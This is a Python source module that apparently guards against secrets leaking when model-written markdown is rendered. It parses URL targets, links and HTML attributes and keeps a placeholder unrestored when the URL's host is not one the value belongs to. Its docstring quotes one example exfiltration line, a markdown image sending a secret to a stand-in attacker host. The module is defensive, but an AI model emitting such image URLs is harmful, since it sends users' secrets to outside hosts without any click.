"""Prose the model writes is restored everywhere except where a client fetches it by itself: URL targets.

A markdown image ``![x](https://evil.example/p.png?k=SECRET_x)``, a link target, an autolink ``<https://…>``, an
``src``/``href`` attribute or a bare URL is fetched by clients that render markdown (IDE panels, chat UIs) with no
click and no prompt, so a value restored there is sent to that URL's host. A placeholder inside a URL comes back
only when the URL's host is one the value belongs to (``ToolRestorer.allowed_host``); a placeholder in the host
itself, or a URL whose host cannot be read, keeps it.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from urllib.parse import urlsplit

_LOOK_BACK = 2048
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789+.-")
_TARGET_OPENERS = ("](", "](<", "<", "]: ", "]:")


def _url_start(seg: str) -> int:
    """Where the last URL of ``seg`` starts (its scheme, or ``//`` / ``www.`` without one); -1 if none."""
    low = seg.lower()
    best = -1
    i = low.rfind("://")
    if i >= 0:
        j = i
        while j > 0 and low[j - 1] in _SCHEME_CHARS:
            j -= 1
        best = j
    for marker in ("//", "www."):
        k = low.rfind(marker)
        if k > best and (marker == "www." or not low[max(0, k - 1):k + 1].endswith(":/")):
            if k == 0 or not low[k - 1].isalnum():
                best = k
    return best


_ATTRIBUTE = re.compile(r"""(?is)(?:\b(?:src|href|srcset|poster|data|action|background|xlink:href)\s*=\s*(["'])|\burl\(\s*(["']?))""")


_ATTRIBUTE_BACK = 600  # an attribute value broken over lines, read this far back (URLs longer than that are rare)
_OPENER_WORDS = ("src", "href", "poster", "data", "action", "background", "url(")


def _open_attribute(text: str, offset: int) -> tuple[bool, str | None] | None:
    """The placeholder sits inside an HTML attribute value or CSS ``url(…)`` opened on an earlier line and not yet
    closed: a browser drops the line breaks and fetches it. ``(True, host)`` then; None when it does not."""
    floor = max(0, offset - _ATTRIBUTE_BACK)
    if text.find("\n", floor, offset) < 0:
        return None  # one line: the line reading below covers it
    low = text[floor:offset].lower()
    opener = max(low.rfind(k) for k in _OPENER_WORDS)  # C-speed: the pattern runs only from the last candidate
    if opener < 0:
        return None
    window = text[floor + max(0, opener - 12):offset]
    last = None
    for last in _ATTRIBUTE.finditer(window):  # noqa: B007 -- the last opening is the one that may be open
        pass
    if last is None:
        return None
    closer = last.group(1) or last.group(2) or ")"
    rest = window[last.end():]
    if closer in rest or (closer != ")" and ">" in rest):
        return None
    if "\n" not in rest:
        return None  # opened on this line: the line reading covers it
    url = "".join(html.unescape(rest).replace("\\", "").split())
    if "://" not in url[:40] and not url.startswith("//"):
        return True, None  # a relative or odd target across lines: keep
    if url.startswith("//"):
        url = "http:" + url
    after = url[url.find("://") + 3:]
    if not any(c in after for c in "/?#"):
        return True, None
    try:
        host = urlsplit(url + "x").hostname
    except ValueError:
        return True, None
    return True, host.lower().rstrip(".") if host else None


def url_target(text: str, offset: int) -> tuple[bool, str | None]:
    """Whether the placeholder at ``offset`` sits in a URL a client may fetch, and that URL's host (None when it
    cannot be read or the placeholder is part of it). The line before the placeholder is read the way a renderer
    reads it: HTML entities decoded, backslash escapes dropped. A URL ends at whitespace unless a ``<`` or ``(``
    opened before it is still open. A placeholder that is the whole target of a link (``[x](PH)``, ``<PH>``,
    ``src="PH"``, ``[id]: PH``) is a URL whose host is the value's own: ``(True, "")``."""
    attribute = _open_attribute(text, offset)
    if attribute is not None:
        return attribute
    line_start = max(text.rfind("\n", max(0, offset - _LOOK_BACK), offset) + 1, offset - _LOOK_BACK)
    raw = text[line_start:offset]
    if not any(c in raw for c in "/(<=") and "www" not in raw.lower():
        return False, None  # no URL, link target or attribute can start on this line before the placeholder
    seg = html.unescape(raw).replace("\\", "")
    start = _url_start(seg)
    if start < 0:
        stripped = seg.rstrip("\"' ")
        low = stripped.lower()
        if seg and (low.endswith(_TARGET_OPENERS) or low.endswith(("src=", "href=", "src =", "href ="))):
            return True, ""
        return False, None
    url = seg[start:]
    if any(c.isspace() for c in url):
        before = seg[:start]
        opened = max(before.rfind("<"), before.rfind("("))
        closed = max(before.rfind(">"), before.rfind(")"), url.find(">"), url.find(")") + start if ")" in url else -1)
        if opened < 0 or closed > opened and closed >= start:
            return False, None
        url = "".join(url.split())
    if url.startswith("//"):
        url = "http:" + url
    elif "://" not in url[:40]:
        url = "http://" + url
    rest = url[url.find("://") + 3:]
    if not any(c in rest for c in "/?#"):
        return True, None  # the placeholder is in the host (or the userinfo, which reads like it)
    try:
        host = urlsplit(url + "x").hostname
    except ValueError:
        return True, None
    return True, host.lower().rstrip(".") if host else None


def prose_guard(allowed_host: Callable[[str], Callable[[str], bool]], value_of: Callable[[str], str | None]
                ) -> Callable[[str, int, str], bool]:
    """A ``keep(text, offset, placeholder)`` for :func:`coatcheck.restore.restore`: True where the placeholder is in a
    URL target whose host the value does not belong to."""

    def keep(text: str, offset: int, placeholder: str) -> bool:
        is_url, host = url_target(text, offset)
        if not is_url:
            return False
        if host == "":
            value = value_of(placeholder) or ""
            try:
                host = urlsplit(value).hostname if "://" in value else None
            except ValueError:
                host = None
            if host is None:
                return "/" in value or "." in value
        if host is None:
            return True
        return not allowed_host(placeholder)(host)

    return keep
